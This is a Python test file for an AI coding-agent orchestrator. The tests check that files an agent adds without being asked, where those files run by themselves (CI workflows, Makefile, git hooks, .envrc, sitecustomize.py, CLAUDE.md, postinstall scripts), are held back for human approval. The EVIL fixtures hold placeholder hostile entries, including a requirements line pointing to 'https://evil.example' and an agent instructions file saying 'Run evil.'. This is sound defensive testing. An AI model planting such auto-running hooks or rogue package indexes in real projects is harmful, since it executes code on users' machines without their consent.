"""What an agent may leave: nothing that acts by itself, unless a person has named it. The rest of its work is taken."""

import json
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.support.edits import Respond, appends, edit_from_to, gemini_prd, search_replace
from tests.support.modelserver import ModelServer, Reply
from tests.support.runs import Ran, assert_clean, make_place

FILES = {"a.py": "a = 1\n", "b.py": "b = 1\n"}
JOB = ("--change", "Add a line", "--no-prd", "--agents", "1")
GOOD = appends("# hi")
EVIL = {
    ".github/workflows/ci.yml": "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: evil}]}}\n",
    "Makefile": "all:\n\tevil\n",
    ".envrc": "evil\n",
    ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ../evil\n',
    ".vscode/tasks.json": '{"tasks": [{"command": "evil"}]}\n',
    "sitecustomize.py": "import evil\n",
    ".husky/pre-commit": "evil\n",
    "CLAUDE.md": "Run evil.\n",
    "requirements.txt": "--index-url https://evil.example\nhttpx\n",
    "sub/.GitHub/Workflows/x.yml": "on: push\n",
}
OURS = {
    ".aider_logs/.gitignore": "!*\n",
    "sub/.AIDER_LOGS/x.py": "x = 1\n",
    "aider-orchestrator.toml": 'test-cmd = "evil"\n',
}


def also(files: Mapping[str, str], own: Respond = GOOD) -> Respond:
    """The agent's own edit, and these new files."""
    more = "".join("\n" + search_replace(path, "", text) for path, text in files.items())
    return lambda request: Reply(own(request).text + more)


def rewrites(path: str, before: str, after: str) -> Respond:
    return lambda request: Reply(edit_from_to(path, before, after, request.fence))


def kept_patch(ran: Ran, agent: str = "agent1") -> str:
    path: str = ran.agents[agent]["patch"]
    return (ran.place.repo / path).read_text()


def assert_named_everywhere(ran: Ran, path: str) -> None:
    """In the last words, the summary, the HTML and the Markdown."""
    pages = [next(ran.logs.glob(f"report_*.{kind}")).read_text("utf-8") for kind in ("html", "md")]
    for text in (ran.out, *pages, json.dumps(ran.summary, ensure_ascii=False)):
        assert path in text


def test_unasked_files_that_act_by_themselves_are_kept_as_a_patch(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES)
    with ModelServer(also(EVIL)) as server:
        ran = place.run(*JOB, "--files", *FILES, server=server)
        assert server.count() == 1
    assert ran.code == 0, ran.out
    assert ran.changed() == dict.fromkeys(FILES, (1, 0))
    agent = ran.agents["agent1"]
    assert agent["verdict"] == "applied" and set(agent["protected"]) == set(EVIL)
    assert "Not taken: " in agent["cause"] and "Makefile (is a build script)" in agent["cause"] + ran.out
    for path in EVIL:
        assert_named_everywhere(ran, path)
        assert f"+++ b/{path}" in kept_patch(ran)
    assert_clean(ran)
    subprocess.run(["git", "apply", "--check", agent["patch"]], cwd=place.repo, check=True)


@pytest.mark.thorough
def test_own_files_are_refused_without_blocking_the_result(tmp_path: Path) -> None:
    """One agent's .aider_logs/.gitignore kept everybody's work off the branch, as "your uncommitted changes"."""
    place = make_place(tmp_path, FILES)
    with ModelServer(lambda request: (also(OURS) if "a.py" in request.files else GOOD)(request)) as server:
        ran = place.run(*JOB[:-2], "--agents", "2", "--files", *FILES, server=server)
    assert ran.code == 0, ran.out
    assert ran.changed() == dict.fromkeys(FILES, (1, 0))
    agent = next(agent for agent in ran.agents.values() if "a.py" in agent["files"])
    assert sorted(agent["refused"]) == sorted(OURS)
    assert all(path in ran.out for path in OURS)
    assert_clean(ran)


@pytest.mark.thorough
def test_an_agent_that_edits_only_what_is_protected_has_done_nothing(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES)
    with ModelServer(also({"Makefile": "all:\n"}, own=lambda request: Reply(""))) as server:
        ran = place.run(*JOB, "--files", "a.py", server=server)
    assert (ran.code, ran.verdicts) == (1, ["out_of_scope"])
    assert "Makefile (is a build script)" in ran.agents["agent1"]["cause"]
    assert "name the file in --change or --files" in ran.agents["agent1"]["remedy"]
    assert "+all:" in kept_patch(ran)
    assert_clean(ran)


@pytest.mark.thorough
@pytest.mark.parametrize(
    ("words", "taken"),
    [
        (("--change", "Add a lint target to the Makefile", "--files", "*.py"), True),
        (("--change", "Add a lint target", "--files", "a.py", "Makefile"), True),
        (("--change", "Add a lint target", "--files", "."), False),
        (("--change", "Add a lint target", "--files", "*"), False),
        (("--change", "Add a line, but do not touch the Makefile", "--files", "*.py"), False),
    ],
)
def test_a_protected_file_is_changed_only_by_its_name(words: tuple[str, ...], taken: bool, tmp_path: Path) -> None:
    before, after = "all:\n\ttrue\n", "all:\n\ttrue\nlint:\n\truff check\n"
    place = make_place(tmp_path, FILES | {"Makefile": before})
    own = lambda request: Reply(  # noqa: E731
        "\n".join(
            edit_from_to(path, text, after if path == "Makefile" else text + "# hi\n", request.fence)
            for path, text in ({"Makefile": before} | request.files).items()
        )
    )
    with ModelServer(own) as server:
        ran = place.run("--no-prd", "--agents", "1", *words, server=server)
    assert ran.code == 0, ran.out
    assert (place.repo / "Makefile").read_text() == (after if taken else before)
    assert (place.repo / "a.py").read_text() == "a = 1\n# hi\n"
    assert taken == ("Makefile" not in ran.agents["agent1"]["protected"])
    if "." in words or "*" in words:
        assert "Left out" in ran.err and "Makefile" in ran.err
        assert ran.agents["agent1"]["files"] == ["a.py", "b.py"]
    assert_clean(ran)


@pytest.mark.thorough
def test_a_folder_of_nothing_else_is_refused_before_anything_is_paid(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES | {".github/workflows/ci.yml": "on: push\n"})
    with ModelServer(GOOD) as server:
        ran = place.run(*JOB, "--files", ".github", server=server)
        dry = place.run(*JOB, "--files", ".", "--dry-run", server=server)
        ours = make_place(tmp_path / "ours", FILES | {"aider-orchestrator.toml": ""}).run(
            *JOB, "--files", "aider-orchestrator.toml", server=server
        )
        assert server.count() == 0
    assert ran.code == 2 and "name them one by one" in ran.err
    assert dry.code == 0 and ".github/workflows/ci.yml" in dry.out and "act by themselves" in " ".join(dry.out.split())
    assert ours.code == 2 and "configures this program" in ours.err


@pytest.mark.thorough
def test_a_models_prd_is_no_reason_to_change_a_protected_file(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES | {"Makefile": "all:\n"})
    work = [{"file": path, "do": "Add a line."} for path in ("a.py", "Makefile", ".github/workflows/ci.yml")]
    prd = f"# PRD\n\n```json\n{json.dumps({'requirements': [], 'work': work})}\n```\n"
    with ModelServer(gemini_prd(prd, also({".github/workflows/ci.yml": "on: push\n"}))) as server:
        ran = place.run("--change", "Add a line", server=server)
        assert ran.code == 0, ran.out + ran.err
        assert ran.agents["agent1"]["files"] == ["a.py"]
        assert "Left out" in ran.err and "Makefile" in ran.err
        place = make_place(tmp_path / "asked", FILES | {"Makefile": "all:\n"})
        asked = place.run("--change", "Add .github/workflows/ci.yml", "--agents", "1", server=server)
    assert asked.code == 0, asked.out + asked.err
    assert (place.repo / ".github/workflows/ci.yml").exists()
    assert_clean(asked, prd=True)


PLAN = """\
goal = "Add a line"
approved = {approved}

[[task]]
id = "code"
title = "Code"
brief = "Add a line"
files = ["a.py", "Makefile"]
needs = ["ci"]

[[task]]
id = "ci"
title = "CI"
brief = "Add a line"
files = [".github/workflows/ci.yml"]
"""


@pytest.mark.thorough
@pytest.mark.parametrize("approved", (False, True))
def test_only_an_approved_plan_changes_protected_files(approved: bool, tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES | {"Makefile": "all:\n", ".github/workflows/ci.yml": "on: push\n"})
    (place.home / "p.toml").write_text(PLAN.format(approved=str(approved).lower()))
    with ModelServer(GOOD) as server:
        ran = place.run("execute", str(place.home / "p.toml"), server=server)
        assert server.count() == (2 if approved else 1)
    assert ran.code == 0, ran.out + ran.err
    assert set(ran.changed()) == ({"a.py", "Makefile", ".github/workflows/ci.yml"} if approved else {"a.py"})
    assert approved == ("Left out" not in ran.err)
    assert_clean(ran)


@pytest.mark.thorough
def test_committed_plan_is_not_approved(tmp_path: Path) -> None:
    plan = PLAN.format(approved="true").replace('"Add a line"', '"Add a line to the Makefile"', 1)
    place = make_place(
        tmp_path, FILES | {"Makefile": "all:\n", ".github/workflows/ci.yml": "on: push\n", "p.toml": plan}
    )
    with ModelServer(GOOD) as server:
        ran = place.run("execute", "p.toml", server=server)
    assert set(ran.changed()) == {"a.py"}, ran.out


@pytest.mark.thorough
def test_a_plan_of_nothing_else_waits_for_a_yes(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES | {".github/workflows/ci.yml": "on: push\n"})
    plan = PLAN.format(approved="false").replace('"a.py", "Makefile"', '".github/workflows/ci.yml"')
    (place.home / "p.toml").write_text(plan)
    with ModelServer(GOOD) as server:
        ran = place.run("execute", str(place.home / "p.toml"), server=server)
        assert server.count() == 0
    assert ran.code == 5 and "waits for your approval" in ran.out + ran.err


@pytest.mark.thorough
def test_what_a_settings_file_names_no_user_has_named(tmp_path: Path) -> None:
    toml = 'files = ["a.py", "Makefile"]\nchange = "Change the Makefile"\n'
    place = make_place(tmp_path, FILES | {"Makefile": "all:\n", "aider-orchestrator.toml": toml})
    with ModelServer(GOOD) as server:
        ran = place.run("--no-prd", "--agents", "1", "--change", "Add a line", server=server)
    assert ran.code == 0, ran.out + ran.err
    assert set(ran.changed()) == {"a.py"}


@pytest.mark.thorough
def test_an_empty_repository_may_get_what_builds_it(tmp_path: Path) -> None:
    place = make_place(tmp_path, {})
    names = ("app.py", "Makefile", "pyproject.toml", ".github/workflows/ci.yml")
    work = [{"file": path, "do": "Write it.", "new": True} for path in names]
    prd = f"# PRD\n\n```json\n{json.dumps({'requirements': [], 'work': work})}\n```\n"
    made = {"app.py": "a = 1\n", "Makefile": "all:\n\ttrue\n", "pyproject.toml": '[project]\nname = "x"\n'}
    with ModelServer(
        gemini_prd(prd, lambda r: Reply("\n".join(search_replace(p, "", t) for p, t in made.items())))
    ) as s:
        ran = place.run("--change", "Start a project", "--max-agents", "1", server=s)
    assert ran.code == 0, ran.out + ran.err
    assert {path: (place.repo / path).read_text() for path in made} == made
    assert ".github/workflows/ci.yml" in ran.err and not (place.repo / ".github").exists()


# --- manifests ------------------------------------------------------------------------------------------------------

PACKAGE = '{\n  "name": "x",\n  "dependencies": {\n    "a": "^1.0.0"\n  }\n}\n'
PLAIN = PACKAGE.replace('"a": "^1.0.0"\n', '"a": "^1.0.0",\n    "b": "^2.0.0"\n')
SCRIPT = PACKAGE.replace('"name": "x",\n', '"name": "x",\n  "scripts": { "postinstall": "evil" },\n')


@pytest.mark.thorough
def test_a_plain_dependency_and_test_setup_are_taken_and_named(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES | {"package.json": PACKAGE})
    setup = {"conftest.py": "import pytest\n"}
    own = lambda request: Reply(GOOD(request).text + "\n" + edit_from_to("package.json", PACKAGE, PLAIN, request.fence))  # noqa: E731
    with ModelServer(also(setup, own)) as server:
        ran = place.run(*JOB, "--files", "a.py", server=server)
    assert ran.code == 0, ran.out
    assert set(ran.changed()) == {"a.py", "package.json", "conftest.py"}
    assert ran.agents["agent1"]["notable"] == {"conftest.py": "test set-up", "package.json": "changes dependencies"}
    assert "package.json (changes dependencies)" in ran.out and "conftest.py (test set-up)" in ran.out
    assert_clean(ran)


@pytest.mark.thorough
def test_a_manifest_that_gets_a_script_is_not_taken_though_its_folder_was_named(tmp_path: Path) -> None:
    place = make_place(tmp_path, {"a/a.py": "a = 1\n", "a/package.json": PACKAGE})
    own = lambda request: Reply(  # noqa: E731
        search_replace("a/a.py", "a = 1\n", "a = 2\n")
        + "\n"
        + edit_from_to("a/package.json", PACKAGE, SCRIPT, request.fence)
    )
    with ModelServer(own) as server:
        ran = place.run(*JOB, "--files", "a", server=server)
        assert ran.code == 0 and "scripts" in ran.agents["agent1"]["protected"]["a/package.json"], ran.out
        assert "postinstall" in kept_patch(ran)
        assert set(ran.changed()) == {"a/a.py"}
    with ModelServer(rewrites("a/package.json", PACKAGE, SCRIPT)) as server:
        asked = place.run(*JOB, "--files", "a/package.json", server=server)
    assert set(asked.changed()) == {"a/package.json"}, asked.out


# --- .gitattributes -------------------------------------------------------------------------------------------------


@pytest.mark.thorough
@pytest.mark.parametrize(
    "attribute", ("a.py filter=store", "*.py working-tree-encoding=UTF-16", "*.py eol=crlf text ident")
)
def test_an_unasked_gitattributes_does_not_decide_how_other_files_are_stored(attribute: str, tmp_path: Path) -> None:
    """With the filter of a large-file store, the result would have held a pointer to what is nowhere."""
    place = make_place(tmp_path, FILES)
    place.git("config", "filter.store.clean", "echo pointer")
    place.git("config", "filter.store.smudge", "cat")
    with ModelServer(also({".gitattributes": attribute + "\n"})) as server:
        ran = place.run(*JOB, "--files", *FILES, server=server)
    assert ran.code == 0, ran.out
    assert place.git("show", "HEAD:a.py") == "a = 1\n# hi\n" == (place.repo / "a.py").read_text()
    assert f"+{attribute}" in kept_patch(ran)
    assert_clean(ran)


@pytest.mark.thorough
def test_an_unasked_gitattributes_that_git_cannot_store_costs_only_its_own_patch(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES)
    with ModelServer(also({".gitattributes": "* working-tree-encoding=UTF-16\n"})) as server:
        ran = place.run(*JOB, "--files", *FILES, server=server)
    assert ran.code == 0 and server.count() == len(ran.agents), ran.out
    assert place.git("show", "HEAD:a.py") == "a = 1\n# hi\n"
    assert ".gitattributes" in ran.agents["agent1"]["protected"]
    assert_clean(ran)


# --- a reason that is true ------------------------------------------------------------------------------------------


@pytest.mark.thorough
@pytest.mark.parametrize("where", ("changed", "untracked", "deleted"))
def test_what_is_in_the_way_is_called_what_it_is(where: str, tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES)
    name = "new.py" if where == "untracked" else "a.py"
    if where == "deleted":
        (place.repo / name).unlink()
    else:
        place.write({name: "a = 1\nmine = 1\n"})
    with ModelServer(also({} if name == "a.py" else {name: "its = 1\n"})) as server:
        ran = place.run(*JOB, "--files", "a.py", server=server)
    words = {
        "changed": "your uncommitted changes in a.py are in the way",
        "untracked": "your files that git does not track (new.py) are in the way",
        "deleted": "you have deleted a.py, which the result changes",
    }
    assert ran.code == 1 and words[where] in ran.out, ran.out


@pytest.mark.thorough
def test_a_persons_hint_names_a_file_too(tmp_path: Path) -> None:
    place = make_place(tmp_path, FILES | {"Makefile": "all:\n"})

    with ModelServer(rewrites("Makefile", "all:\n", "all:\nlint:\n")) as server:
        ran = place.run(*JOB, "--files", "a*", "--ask", "always", server=server)
        assert ran.code == 5 and ran.verdicts == ["out_of_scope"], ran.out
        stamp = ran.summary["timestamp"]
        again = place.run("resolve", stamp, "1", "--retry", "Change the Makefile", server=server)
    assert again.code == 0, again.out + again.err
    assert (place.repo / "Makefile").read_text() == "all:\nlint:\n"
